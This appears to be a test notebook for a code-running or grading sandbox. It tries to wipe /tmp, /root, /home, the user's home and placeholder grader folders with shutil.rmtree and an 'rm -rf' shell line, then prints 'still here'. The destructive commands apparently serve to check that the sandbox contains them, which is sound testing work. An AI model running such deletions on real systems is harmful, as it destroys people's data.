"""Removes what it can of the machine's /tmp, of its home, of the grader's home and of the notebook's folder."""
# says: none of its 2 cells failed
import os
import shutil

for folder in ("/" + "tmp", "@HOME@", "@OUTSIDE@", "@TMPDIR@", "/work", "/root", "/home", os.path.expanduser("~")):
    shutil.rmtree(folder, ignore_errors=True)
!rm -rf @OUTSIDE@ @HOME@ @TMPDIR@ ~ /var/tmp/*
# %%
print("still here")
